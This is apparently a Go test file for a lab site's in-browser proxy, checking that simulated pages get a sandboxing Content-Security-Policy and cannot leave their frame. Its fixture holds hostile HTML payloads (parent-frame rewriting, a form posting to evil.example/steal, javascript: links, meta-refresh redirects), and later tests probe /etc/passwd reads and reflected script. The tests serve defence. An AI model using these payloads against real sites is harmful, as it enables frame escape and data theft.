package web_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// hostile is a page that tries to get out of its frame.
const hostile = `<base href="https://evil.example/"><meta http-equiv=refresh content="0; url=https://evil.example/x">
<script>parent.document.body.innerHTML = "mine"; fetch("/labs")</script><img src=x onerror="parent.location = '//evil.example'">
<iframe src="//evil.example/frame"></iframe><iframe srcdoc="<script>top.location='/'</script>"></iframe>
<form action="https://evil.example/steal" method=POST><input name=a></form><form action="//evil.example/get"></form>
<a href="javascript:alert(1)" target=_top>x</a><a href="/labs" target=_top>y</a><link rel=stylesheet href="https://evil.example/s.css">`

// TestNothingLeavesTheFrame: whatever a simulated page holds, it is answered
// with a policy that gives it no script, no origin and nothing to load, and no
// address in it leads to a real server.
func TestNothingLeavesTheFrame(t *testing.T) {
	s := newSite(t, nil)
	lab := s.newLab()
	s.line(lab, "docker run -d --name web -p 8080:80 nginx")
	s.line(lab, "cat > index.html <<'PAGE'\n"+hostile+"\nPAGE")
	s.line(lab, "docker cp index.html web:/usr/share/nginx/html/index.html")
	resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/http/localhost:8080/", "")
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK || !strings.Contains(string(body), "mine") {
		t.Fatalf("%d %v %s", resp.StatusCode, err, body)
	}
	policy := resp.Header.Get("Content-Security-Policy")
	for _, part := range []string{"sandbox allow-forms;", "default-src 'none'", "form-action 'self'", "frame-ancestors 'self'"} {
		if !strings.Contains(policy, part) {
			t.Errorf("the policy %q lacks %q", policy, part)
		}
	}
	for _, right := range []string{"allow-scripts", "allow-same-origin", "allow-top-navigation", "allow-popups", "script-src", "connect-src"} {
		if strings.Contains(policy, right) {
			t.Errorf("the policy %q has %q", policy, right)
		}
	}
	if resp.Header.Get("X-Content-Type-Options") != "nosniff" || len(resp.Cookies()) > 0 {
		t.Errorf("%v", resp.Header)
	}
	for _, way := range []string{`href="https://`, `href="//`, `src="//`, `src="https://`, `action="//`, `action="https://`, "url=https://"} {
		if strings.Contains(string(body), way) {
			t.Errorf("a way out: %s in\n%s", way, body)
		}
	}
}

func TestWhatAFrameSays(t *testing.T) {
	s := newSite(t, nil)
	lab := s.newLab()
	for _, line := range []string{
		"docker run -d --name web -p 8080:80 nginx",
		"printf 'server { listen 80; location /loop { return 302 http://localhost:8080/loop; } location /far { return 301 http://nowhere.invalid/; } location / { root /usr/share/nginx/html; } }' > default.conf",
		"docker cp default.conf web:/etc/nginx/conf.d/default.conf",
		"docker exec web nginx -s reload",
		"docker exec web sh -c 'head -c 9000000 /dev/zero > /usr/share/nginx/html/huge.html'",
	} {
		s.line(lab, line)
	}
	for _, row := range []struct{ address, says string }{
		{"http/localhost:8080/loop", "redirected you too many times"},
		{"http/localhost:8080/far", "cannot be found"},
		{"http/localhost:9/", "refused to connect"},
		{"file/etc/passwd", ""},
		{"http/localhost:8080/%3Cscript%3Ealert(1)%3C/script%3E", "404"},
	} {
		resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/"+row.address, "")
		body, err := io.ReadAll(resp.Body)
		if err != nil || !strings.Contains(string(body), row.says) || strings.Contains(string(body), "root:x:0") || strings.Contains(string(body), "<script>alert") {
			t.Errorf("%s: %d %v %.300s", row.address, resp.StatusCode, err, body)
		}
		if !strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") {
			t.Errorf("%s is answered without a policy: %d", row.address, resp.StatusCode)
		}
	}
	resp := s.ask(http.MethodGet, "/labs/"+lab+"/browse/http/localhost:8080/huge.html", "")
	body, err := io.ReadAll(resp.Body)
	if err != nil || len(body) > 4<<20 {
		t.Errorf("a huge page is answered with %d bytes, %v", len(body), err)
	}
}

// TestAFormIsSent: a form of a simulated page that is sent with POST reaches the
// server, its answer shows, and the lab has changed; what is too long or of
// another kind is not sent. What the terminal does meanwhile does not matter.
func TestAFormIsSent(t *testing.T) {
	s := newSite(t, nil)
	lab := s.newLab()
	s.line(lab, "cat > app.py <<'PY'\nfrom flask import Flask, request\napp = Flask(__name__)\nnames = []\n@app.route('/', methods=['GET', 'POST'])\ndef main():\n"+
		"    if request.method == 'POST':\n        names.append(request.form['name'])\n    return '<form method=post action=/?a=1><input name=name></form>' + ','.join(names)\napp.run(host='0.0.0.0', port=5000)\nPY")
	s.line(lab, "printf 'FROM python:3.12-slim\\nRUN pip install flask\\nCOPY app.py .\\nCMD [\"python\", \"app.py\"]\\n' > Dockerfile; docker build -q -t app .; docker run -d -p 5000:5000 app; sleep 2")
	page := func(method, body, kind string) string {
		r := httptest.NewRequest(method, "/labs/"+lab+"/browse/http/localhost:5000/", strings.NewReader(body))
		r.Header.Set("Origin", "null")
		r.Header.Set("Sec-Fetch-Site", "cross-site")
		if kind != "" {
			r.Header.Set("Content-Type", kind)
		}
		w := httptest.NewRecorder()
		s.ServeHTTP(w, r)
		if w.Code != http.StatusOK || !strings.Contains(w.Header().Get("Content-Security-Policy"), "sandbox") {
			t.Fatalf("%s: %d %v", method, w.Code, w.Header())
		}
		return w.Body.String()
	}
	const form = "application/x-www-form-urlencoded"
	for _, row := range []struct{ method, body, kind, says string }{
		{"GET", "", "", `<form method="post" action="/labs/` + lab + `/browse/http/localhost:5000/?a=1">`},
		{"POST", "name=anne%27s", form, "</form>anne's"},
		{"POST", "name=bob", form, "</form>anne's,bob"},
		{"POST", "x", "multipart/form-data; boundary=x", "curl -F in the terminal"},
		{"POST", "name=" + strings.Repeat("x", 60<<10), form, "too long"},
		{"GET", "", "", "</form>anne's,bob"},
	} {
		if got := page(row.method, row.body, row.kind); !strings.Contains(got, row.says) {
			t.Errorf("%s %.40s: %.400s\nwant %s", row.method, row.body, got, row.says)
		}
	}
	s.line(lab, "sleep 100000")
	if got := page("POST", "name=carl", form); !strings.Contains(got, "</form>anne's,bob,carl") {
		t.Errorf("while a program holds the terminal: %s", got)
	}
}
